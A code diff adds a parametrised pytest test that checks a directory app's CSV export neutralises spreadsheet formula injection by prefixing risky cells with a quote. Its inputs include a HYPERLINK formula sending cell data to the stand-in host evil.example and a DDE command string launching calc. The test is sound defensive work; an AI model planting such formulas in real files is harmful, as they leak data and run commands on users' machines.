@@ -262,6 +262,28 @@ def test_csv_keeps_separators_quotes_and_line_breaks_inside_values(client, demo)
     assert (item["summary"], item["latitude"], item["staff_count"]) == (summary, None, None)
 
 
+@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(client, demo, trigger):
+    """A text cell that a spreadsheet would evaluate (CSV injection) starts with a single
+    quote in the CSV; the JSON keeps the text as typed, and numbers stay numbers."""
+    formula = f'{trigger}HYPERLINK("https://evil.example/?"&A1;"clic")'
+    add_structure(title=f"{trigger}SUM(1+1)", summary=formula, street_address=f"{trigger}1+2",
+                  city=f"{trigger}cmd|' /C calc'!A0", latitude="48.070000",
+                  longitude="-0.770000")
+    _, rows = csv_rows(client.get(f"{EXPORT['fr']}csv/"))
+    row = next(row for row in rows if slug_of(row["url"]) == "essai")
+    assert row["name"] == f"'{trigger}SUM(1+1)"
+    assert row["summary"] == f"'{formula}"
+    assert row["street_address"] == f"'{trigger}1+2"
+    assert row["city"] == f"'{trigger}cmd|' /C calc'!A0"
+    assert row["longitude"] == "-0.77"
+    for other in rows:
+        assert not other["name"].startswith(("=", "+", "-", "@", "\t", "\r"))
+    data = json_data(client.get(f"{EXPORT['fr']}json/"))
+    item = next(item for item in data["structures"] if slug_of(item["url"]) == "essai")
+    assert (item["name"], item["summary"]) == (f"{trigger}SUM(1+1)", formula)
+
+
 def test_directory_links_to_its_exports(client, demo):
     page = BeautifulSoup(client.get("/fr/annuaire/").content, "html.parser")
     links = {a["href"] for a in page.select("a[href]")}
